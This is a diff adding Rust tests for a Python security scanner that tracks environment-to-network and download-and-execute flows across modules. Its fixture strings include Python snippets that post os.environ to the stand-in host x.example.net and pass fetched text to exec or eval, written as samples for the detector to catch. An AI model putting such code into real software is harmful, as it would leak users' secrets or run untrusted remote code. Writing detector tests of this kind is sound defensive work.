@@ -1,0 +1,136 @@
+//! Flows that cross the modules of a plugin, and the order and the bounds of what a flow shows.
+
+#![expect(clippy::unwrap_used, reason = "a tree that cannot be made ends the test")]
+
+use airlock_model::{Finding, Tree, TreePath};
+use airlock_scanner::python::{Settings, scan};
+
+fn findings(files: &[(&str, &str)]) -> Vec<Finding> {
+    let mut tree = Tree::new();
+    for (path, text) in files {
+        tree.insert(TreePath::new(*path).unwrap(), text.as_bytes());
+    }
+    scan(&tree, &Settings { jobs: 1, ..Settings::default() }).findings
+}
+
+/// The ways of the findings of a rule, `file:line message` for each step.
+fn ways(files: &[(&str, &str)], rule: &str) -> Vec<Vec<String>> {
+    let found = findings(files).into_iter().filter(|finding| finding.rule == rule);
+    found
+        .map(|finding| {
+            let steps = finding.evidence.iter();
+            steps
+                .map(|step| {
+                    format!("{}:{} {}", step.file.as_deref().unwrap_or("-"), step.line.unwrap_or(0), step.message)
+                })
+                .collect()
+        })
+        .collect()
+}
+
+#[test]
+fn data_that_one_module_gathers_and_another_sends_is_one_flow() {
+    let gather = "import os\n\ndef gather():\n    return dict(os.environ)\n";
+    let send = "import requests\n\ndef send(body, retries=3):\n    requests.post('https://x.example.net', json=body)\n";
+    let main =
+        "from .gather import gather\nfrom .send import send\n\ndef main():\n    data = gather()\n    send(data)\n";
+    let files = [("p/__init__.py", ""), ("p/gather.py", gather), ("p/send.py", send), ("p/main.py", main)];
+    assert_eq!(
+        ways(&files, "AL-FLOW-environment-to-network"),
+        [[
+            "p/gather.py:4 os.environ gives the environment",
+            "p/main.py:5 p.gather.gather() hands it over",
+            "p/main.py:5 kept in 'data'",
+            "p/main.py:6 handed to another file",
+            "p/send.py:4 requests.post sends it away",
+        ]]
+    );
+}
+
+#[test]
+fn classes_constants_and_names_of_the_package_lead_on() {
+    let rule = "AL-FLOW-download-execute";
+    for (theirs, ours) in [
+        ("import requests\nCODE = requests.get('https://x.example.net').text\n", "from .a import CODE\nexec(CODE)\n"),
+        (
+            "import requests\nclass Client:\n    def fetch(self):\n        return requests.get('https://x.example.net').text\n",
+            "from . import a\n\ndef f():\n    exec(a.Client().fetch())\n",
+        ),
+        (
+            "class Runner:\n    def __init__(self, name):\n        self.name = name\n\n    def run(self, code):\n        exec(code)\n",
+            "import requests\nfrom p import Runner\n\nRunner('x').run(code=requests.get('https://x.example.net').text)\n",
+        ),
+        (
+            "import httpx\n\ndef lines():\n    yield httpx.get('https://x.example.net').text\n",
+            "from p import lines\nfor line in lines():\n    eval(line)\n",
+        ),
+    ] {
+        let files = [("p/__init__.py", "from .a import *\n"), ("p/a.py", theirs), ("p/main.py", ours)];
+        let named = if ours.contains("from p import Runner") {
+            [("p/__init__.py", "from .a import Runner\n"), files[1], files[2]]
+        } else {
+            files
+        };
+        let found = ways(&named, rule);
+        assert_eq!(found.len(), 1, "{ours}");
+        assert!(found[0].first().unwrap().contains("an answer from the network"), "{found:?}");
+        assert!(found[0].last().unwrap().ends_with("runs it as code"), "{found:?}");
+    }
+}
+
+#[test]
+fn modules_without_an_end_of_the_flow_raise_no_alarm() {
+    let config =
+        "import os\n\nKEY = os.environ['SHOP_API_KEY']\n\ndef url(path):\n    return os.environ['SHOP_URL'] + path\n";
+    let client = "import requests\nfrom .config import KEY, url\n\ndef get(path, **more):\n    \
+                  return requests.get(url(path), headers={'Authorization': KEY}, params=more).json()\n";
+    let main = "from .client import get\n\ndef orders(customer):\n    return get('/orders', customer=customer)\n";
+    let found =
+        findings(&[("p/__init__.py", ""), ("p/config.py", config), ("p/client.py", client), ("p/main.py", main)]);
+    let flows: Vec<&Finding> = found.iter().filter(|finding| finding.rule.starts_with("AL-FLOW-")).collect();
+    assert!(flows.is_empty(), "{flows:#?}");
+}
+
+#[test]
+fn a_function_given_data_by_one_caller_is_not_given_it_by_another() {
+    let text = "import os\nimport requests\n\ndef same(value):\n    return value\n\n\
+                secret = same(os.environ)\nname = same('weather')\nrequests.post('https://x.example.net', data=name)\n";
+    assert!(ways(&[("a.py", text)], "AL-FLOW-environment-to-network").is_empty());
+    let text = text.replace("data=name", "data=secret");
+    assert_eq!(ways(&[("a.py", &text)], "AL-FLOW-environment-to-network").len(), 1);
+}
+
+#[test]
+fn long_ways_are_shown_by_their_ends() {
+    let mut text = String::from("import os\nimport requests\n\nv0 = str(os.environ)\n");
+    for number in 1..200 {
+        text.push_str(&format!("v{number} = v{} + 'x'\n", number - 1));
+    }
+    text.push_str("requests.post('https://x.example.net', data=v199)\n");
+    let found = ways(&[("a.py", &text)], "AL-FLOW-environment-to-network");
+    assert_eq!(found.len(), 1);
+    assert!(found[0].len() < 24, "{}", found[0].len());
+    assert!(found[0][0].contains("os.environ gives the environment"));
+    assert!(found[0].last().unwrap().contains("requests.post sends it away"));
+}
+
+#[test]
+fn a_question_that_is_cut_short_is_said_to_be() {
+    let mut text = String::from("import os\nimport requests\n\nv0 = str(os.environ)\n");
+    for number in 1..9000 {
+        text.push_str(&format!("v{number} = v{} + 'x'\n", number - 1));
+    }
+    text.push_str("requests.post('https://x.example.net', data=v8999)\n");
+    let found = findings(&[("a.py", &text)]);
+    assert!(found.iter().any(|finding| finding.rule == "AL-CODE-too-complex"), "{found:?}");
+}
+
+#[test]
+fn recursion_and_objects_within_themselves_end() {
+    let text = "import os\nimport requests\n\ndef f(x):\n    return g(f(x)) + f(g(x))\n\ndef g(x):\n    return f(g(x))\n\n\
+                class A:\n    def __init__(self, a):\n        self.a = a\n        self.b = []\n\n    def add(self):\n        \
+                self.b.append(self)\n        self.a = A(self.a)\n        return self.add()\n\n\
+                box = {}\nbox['x'] = box\nbox['y'] = A(box).add()\nbox.update(box)\n\
+                requests.post('https://x.example.net', json=[f(box), box, A(box).b])\n";
+    assert!(findings(&[("a.py", text)]).iter().all(|finding| finding.rule != "AL-CODE-scanner-fault"));
+}
